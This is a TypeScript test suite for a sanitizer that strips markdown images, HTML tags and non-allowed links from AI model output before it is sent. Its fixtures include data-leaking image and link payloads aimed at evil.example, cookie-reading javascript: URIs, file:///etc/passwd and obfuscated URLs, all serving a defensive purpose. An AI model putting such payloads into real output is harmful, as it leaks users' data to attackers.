import { describe, expect, it } from 'vitest';
import { sanitizeOutboundText, urlsIn } from '../../src/shared/outbound-text.ts';
import { comparisonKey, findLinks, normalizeUrl } from '../../src/shared/outbound-url.ts';

// RELIABILITY 20: model output with a markdown image or a data-bearing link never reaches an
// outbound message. All text here is synthetic.

const THREAD = [
  'Hi Maya, the contract is at https://files.acme.example/contract?id=7.',
  'Terms: www.acme.example/terms — or write to mailto:dana@acme.example',
].join('\n');
const allowed = urlsIn(THREAD);
const clean = (text: string) => sanitizeOutboundText(text, allowed);
const text = (input: string) => clean(input).text;

/** Every link left in `output` is one of `allowed` (the property the sanitizer exists for). */
function onlyAllowedLinks(output: string, allow: readonly string[]): boolean {
  const keys = new Set(allow.map((u) => comparisonKey(normalizeUrl(u) ?? u)));
  return findLinks(output).every((l) => l.normalized === null || keys.has(comparisonKey(l.normalized)));
}

describe('urlsIn', () => {
  it('finds http(s), www. and mailto URLs, normalized, without trailing punctuation', () => {
    expect(allowed).toEqual([
      'https://files.acme.example/contract?id=7',
      'http://www.acme.example/terms',
      'mailto:dana@acme.example',
    ]);
  });

  it('lower-cases scheme and host, drops default ports and resolves dot segments, keeping path case', () => {
    expect(urlsIn('HTTPS://Files.ACME.example:443/a/../Contract?ID=7')).toEqual([
      'https://files.acme.example/Contract?ID=7',
    ]);
    expect(urlsIn('ftp://Ftp.Acme.example:21/pub')).toEqual(['ftp://ftp.acme.example/pub']);
  });

  it('decodes percent-escapes of unreserved characters and upper-cases the rest', () => {
    expect(normalizeUrl('https://acme.example/%63ontract%2fx?q=%7e')).toBe(
      'https://acme.example/contract%2Fx?q=~',
    );
  });

  it('finds scheme-less hosts with a path and protocol-relative URLs, but not bare host names or addresses', () => {
    expect(
      urlsIn('see acme.example/pay?x=1 and //cdn.acme.example/a.js; acme.example; dana@acme.example'),
    ).toEqual(['http://acme.example/pay?x=1', 'http://cdn.acme.example/a.js']);
  });

  it('never returns javascript:, data: or file: URIs', () => {
    expect(urlsIn('javascript:alert(1) data:text/html,hi file:///etc/passwd \\\\host\\share')).toEqual([]);
  });

  it('sees a URL written with character references', () => {
    expect(urlsIn('&#x68;ttps://acme.example/a')).toEqual(['https://acme.example/a']);
  });

  it('reads a markdown link in the thread without its closing parenthesis', () => {
    expect(urlsIn('[terms](https://acme.example/terms)')).toEqual(['https://acme.example/terms']);
  });
});

describe('sanitizeOutboundText: images', () => {
  it('removes an inline markdown image with a title, recording its URL', () => {
    expect(clean('Hi ![logo](https://evil.example/p.png?d=secret "Logo") there')).toEqual({
      text: 'Hi there',
      removed: [{ kind: 'image', value: 'https://evil.example/p.png?d=secret' }],
    });
  });

  it('removes images split across lines, with nested brackets, angle-bracket URLs or space before the URL', () => {
    const inputs = [
      '![lo\ngo](\n  https://evil.example/a.png\n  "t")',
      '![a [nested [deep]] alt](https://evil.example/b.png)',
      '![x](<https://evil.example/with space.png>)',
      '![x] (https://evil.example/c.png)',
      '![x]\n(https://evil.example/d.png)',
      '![x](https://evil.example/e_(1).png)',
    ];
    for (const input of inputs) {
      const out = clean(`Before ${input} after`);
      expect(out.text, input).toBe('Before after');
      expect(
        out.removed.some((r) => r.kind === 'image'),
        input,
      ).toBe(true);
    }
  });

  it('removes a reference-style image and its definition, wherever the definition is', () => {
    const input =
      'Hi ![x][logo] and ![logo] and ![Logo][]\n\n[logo]:\n  https://evil.example/l.png "Logo"\nBye';
    const out = clean(input);
    expect(out.text).toBe('Hi and and\n\nBye');
    expect(out.removed.filter((r) => r.kind === 'image')).toHaveLength(3);
    expect(out.text).not.toContain('evil');
  });

  it('removes an image even when its URL was in the thread', () => {
    expect(text('![c](https://files.acme.example/contract?id=7)')).toBe('');
  });

  it('removes HTML images however they are written', () => {
    const inputs = [
      '<img src="https://evil.example/p.png">',
      '<IMG SRC=https://evil.example/p.png>',
      '<img/src="https://evil.example/p.png"/>',
      '<img alt="a>b" src="https://evil.example/p.png">',
      '<img\nsrcset="https://evil.example/p.png 2x">',
      '<picture><source srcset="https://evil.example/p.webp"></picture>',
    ];
    for (const input of inputs) {
      const out = clean(`A ${input} B`);
      expect(out.text, input).toBe('A B');
      expect(
        out.removed.some((r) => r.kind === 'image'),
        input,
      ).toBe(true);
    }
  });

  it('leaves no image syntax behind, even where removals meet', () => {
    for (const input of [
      '!<https://evil.example/x>(https://files.acme.example/contract?id=7)',
      '!<b></b>[x](https://files.acme.example/contract?id=7)',
      '!\u200b[x](https://evil.example/p.png)',
      '!&#91;x](https://evil.example/p.png)',
    ]) {
      const out = text(input);
      expect(out, input).not.toContain('![');
      expect(out, input).not.toContain('evil');
    }
  });
});

describe('sanitizeOutboundText: links', () => {
  it('keeps a markdown link to a thread URL as "text (url)" and reduces any other to its text', () => {
    const out = clean(
      'See [the contract](https://files.acme.example/contract?id=7) and [this form](https://evil.example/f?d=1).',
    );
    expect(out.text).toBe('See the contract (https://files.acme.example/contract?id=7) and this form.');
    expect(out.removed).toEqual([{ kind: 'link', value: 'https://evil.example/f?d=1' }]);
  });

  it('does not repeat a URL that is also the link text, and keeps reference links the same way', () => {
    expect(text('[https://files.acme.example/contract?id=7](https://files.acme.example/contract?id=7)')).toBe(
      'https://files.acme.example/contract?id=7',
    );
    expect(text('[terms][t] and [form][f]\n[t]: www.acme.example/terms\n[f]: https://evil.example/f')).toBe(
      'terms (www.acme.example/terms) and form',
    );
  });

  it('shows the real target of a link whose text pretends to be a thread URL', () => {
    expect(text('[https://files.acme.example/contract?id=7](https://evil.example/x)')).toBe(
      'https://files.acme.example/contract?id=7',
    );
  });

  it('handles a linked image: the image goes, the link stays if allowed', () => {
    expect(text('[![x](https://evil.example/i.png)](https://files.acme.example/contract?id=7)')).toBe(
      'https://files.acme.example/contract?id=7',
    );
    expect(text('[![x](https://evil.example/i.png) Sign](https://evil.example/s)')).toBe('Sign');
  });

  it('keeps allowed autolinks and bare URLs and replaces others with a marker', () => {
    expect(
      text(
        'Visit <https://evil.example/a>, https://files.acme.example/contract?id=7 or http://evil.example/b.',
      ),
    ).toBe('Visit [link removed], https://files.acme.example/contract?id=7 or [link removed].');
  });

  it('allows only the exact URL: not another path, another query, an extra parameter or a fragment', () => {
    for (const url of [
      'https://files.acme.example/other',
      'https://files.acme.example/contract?id=8',
      'https://files.acme.example/contract?id=7&d=secret',
      'https://files.acme.example/contract?id=7#secret',
      'https://files.acme.example/contract/../x?id=7',
      'https://user@files.acme.example/contract?id=7',
      'https://files.acme.example:8443/contract?id=7',
      'https://files.acme.example.evil.example/contract?id=7',
      'https://files.acme.example@evil.example/contract?id=7',
    ]) {
      expect(text(`go ${url} now`), url).toBe('go [link removed] now');
    }
  });

  it('treats different spellings of an allowed URL as the same URL', () => {
    for (const url of [
      'HTTPS://FILES.ACME.EXAMPLE/contract?id=7',
      'https://files.acme.example:443/contract?id=7',
      'http://files.acme.example/contract?id=7',
      'https://files.acme.example/%63ontract?id=7',
      'https://files.acme.example/./contract?id=7',
      'http://www.acme.example/terms',
      'https://www.acme.example/terms',
    ]) {
      expect(text(`go ${url} now`), url).toBe(`go ${url} now`);
    }
  });

  it('catches scheme-less, www., protocol-relative, UNC and mailto links not in the thread', () => {
    expect(text('Upload to evil.example/path?data=abc please')).toBe('Upload to [link removed] please');
    expect(text('See www.evil.example for more')).toBe('See [link removed] for more');
    expect(text('Load //evil.example/x.js')).toBe('Load [link removed]');
    expect(text('Open evil.example:8080 now')).toBe('Open [link removed] now');
    expect(text('Open 203.0.113.9/x now')).toBe('Open [link removed] now');
    expect(text('Open \\\\evil.example\\share now')).toBe('Open now');
    expect(text('Write to mailto:evil@x.example?body=secret')).toBe('Write to [link removed]');
    expect(text('Write to mailto:dana@acme.example')).toBe('Write to mailto:dana@acme.example');
  });

  it('leaves bare host names, plain addresses and ordinary prose alone', () => {
    const prose =
      'Thanks Dana — Tuesday at 10:30 works. Price: 5 < 6 > 4, see acme.example or write to dana@acme.example or <dana@acme.example>. Q3/Q4 and e.g. node.js are fine.';
    expect(clean(prose)).toEqual({ text: prose, removed: [] });
  });

  it('removes javascript:, data:, vbscript: and file: URIs entirely, in every form', () => {
    for (const input of [
      'x javascript:alert(document.cookie) y',
      'x JaVaScRiPt:alert(1) y',
      'x data:text/html;base64,PHNjcmlwdD4= y',
      'x vbscript:msgbox(1) y',
      'x file:///etc/passwd y',
      'x <javascript:alert(1)> y',
      'x <a href="java&#x09;script:alert(1)"></a> y',
      'x [](javascript:alert(1)) y',
      'x [](data:text/html,hi) y',
    ]) {
      const out = clean(input);
      expect(out.text, input).toBe('x y');
      expect(out.removed.length, input).toBeGreaterThan(0);
    }
    expect(text('[click](javascript:alert(1))')).toBe('click');
  });

  it('does not let a marker extend a URL it follows', () => {
    const out = text('https://<https://evil.example/x>');
    expect(onlyAllowedLinks(out, allowed)).toBe(true);
  });
});

describe('sanitizeOutboundText: HTML and encodings', () => {
  it('strips tags, keeps link text (and the URL when allowed), drops scripts, styles and comments', () => {
    const out = clean(
      '<p>Hello <b>Dana</b>,<br>the <a href="https://files.acme.example/contract?id=7">contract</a> and <a href="https://evil.example/t">form</a>.</p><script>fetch("https://evil.example")</script><style>p{background:url(https://evil.example/b.png)}</style><!-- https://evil.example/c -->Bye',
    );
    expect(out.text).toBe(
      'Hello Dana,\nthe contract (https://files.acme.example/contract?id=7) and form.\nBye',
    );
    expect(out.removed).toContainEqual({ kind: 'link', value: 'https://evil.example/t' });
  });

  it('decodes character references before looking for links and tags', () => {
    expect(text('&#x68;ttps://evil.example/x')).toBe('[link removed]');
    expect(text('&#104;&#116;&#116;&#112;&#115;&#58;//evil.example/x')).toBe('[link removed]');
    expect(text('&amp;#x68;ttps://evil.example/x')).toBe('[link removed]');
    expect(text('https&colon;&sol;&sol;evil.example/x')).toBe('[link removed]');
    expect(text('&lt;img src=https://evil.example/p.png&gt;')).toBe('');
    expect(text('AT&amp;T &copy; R&D')).toBe('AT&T © R&D');
  });

  it('deletes character references nested deeper than it decodes, so no later renderer can decode them', () => {
    const out = text('&amp;amp;amp;amp;#x68;ttps://evil.example/x');
    expect(out).not.toMatch(/&[#a-z0-9]+;/i);
    expect(onlyAllowedLinks(out, allowed)).toBe(true);
  });

  it('removes invisible characters that could hide or split a URL', () => {
    expect(text('ht\u200btps://evil.example/x')).toBe('[link removed]');
    expect(text('https://files.acme.example/contract?id=7\u200b&d=1')).toBe('[link removed]');
    expect(text('https://files.acme.example/contract?id=7\u{E0026}\u{E0064}')).toBe(
      'https://files.acme.example/contract?id=7',
    );
  });

  it('keeps the text after an unclosed tag-like "<", breaking the would-be tag up', () => {
    expect(text('if a<b and c then')).toBe('if a< b and c then');
    expect(text('<b x="never closed and then some text')).toBe('< b x="never closed and then some text');
    expect(text('<img src="https://files.acme.example/contract?id=7"')).toBe(
      '< img src="https://files.acme.example/contract?id=7"',
    );
  });

  it('breaks up a tag that only appears once a link between its parts is removed', () => {
    const out = clean('<[](https://evil.example/x)img src=https://files.acme.example/contract?id=7>');
    expect(out.text).toBe('< img src=https://files.acme.example/contract?id=7>');
  });

  it('escapes a character reference that only appears once something between its parts is removed', () => {
    expect(text('http:&<b></b>#x2f;/evil.example/x')).toBe('http:&amp;#x2f;/evil.example/x');
  });
});

describe('sanitizeOutboundText: robustness', () => {
  it('is total: odd input never throws', () => {
    for (const input of [
      '',
      '   ',
      '\u0000\u0001',
      '\ud800',
      '[',
      '![',
      '<',
      '&#',
      '](',
      '[]()',
      '\\',
      '<!--',
    ]) {
      expect(() => sanitizeOutboundText(input, allowed), JSON.stringify(input)).not.toThrow();
    }
    expect(() => sanitizeOutboundText('x', ['not a url', '', 'javascript:alert(1)'])).not.toThrow();
  });

  it('never allows a dangerous URI even if the caller lists it as allowed', () => {
    expect(sanitizeOutboundText('javascript:alert(1)', ['javascript:alert(1)']).text).toBe('');
  });

  it('caps the record of removals but not the removals', () => {
    const out = clean('![x](https://evil.example/p.png) '.repeat(1000));
    expect(out.text).toBe('');
    expect(out.removed).toHaveLength(200);
  });

  it('copes with very deep nesting', () => {
    const deep = `${'['.repeat(5000)}x](https://evil.example/a)${']'.repeat(5000)}`;
    const out = text(`${deep} ${'![a'.repeat(3000)}](https://evil.example/p.png)`);
    expect(out).not.toContain('evil');
    expect(out).not.toContain('![');
  });

  it('finishes 1 MB of adversarial input in linear time', () => {
    const mb = (unit: string) => unit.repeat(Math.ceil(1_000_000 / unit.length));
    // One or two per pass: brackets, images, parentheses, quotes in tags, declarations, references,
    // host labels, www./scheme URLs, trailing brackets, definitions, spaces, UNC, paths, image gaps.
    const units = [
      '[',
      '![',
      '(',
      '<a x="',
      '<!',
      '&#x6',
      'a.',
      'www.',
      'https://a.b/(',
      '[a]: ',
      '  ',
      '\\\\a',
      'a.bc/',
      ']\n(',
    ];
    const started = performance.now();
    for (const unit of units) {
      const t0 = performance.now();
      sanitizeOutboundText(mb(unit), allowed);
      expect(performance.now() - t0, JSON.stringify(unit)).toBeLessThan(4_000);
    }
    expect(performance.now() - started).toBeLessThan(20_000);
  }, 60_000);

  it('whatever the input, the output holds no image syntax, no tag, no live reference and no link outside the allowed set', () => {
    const pieces = [
      '![',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '"',
      "'",
      '=',
      ' ',
      '\n',
      '!',
      'x',
      'img src=',
      'a href=',
      '&#x68;',
      '&lt;',
      '&gt;',
      'ttps://',
      'https://evil.example/p?d=1',
      'https://files.acme.example/contract?id=7',
      'evil.example/x',
      'www.',
      '//',
      'javascript:',
      'data:',
      ':',
      '/',
      '\u200b',
      '[r]: ',
      '\\',
    ];
    let seed = 42;
    const random = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    for (let round = 0; round < 1500; round++) {
      let input = '';
      for (let i = 0; i < 30; i++) input += pieces[Math.floor(random() * pieces.length)];
      const out = sanitizeOutboundText(input, allowed).text;
      expect(out, input).not.toContain('![');
      expect(out, input).not.toMatch(/<(?![^\s<>@]+@[^\s<>@]+>)(?:\/?[a-z]|[!?])/i);
      expect(out, input).not.toMatch(/&(?:#x?[0-9a-f]+|lt|gt|amp|colon|sol);/i);
      expect(onlyAllowedLinks(out, allowed), `${input}\n→ ${out}`).toBe(true);
    }
  });
});
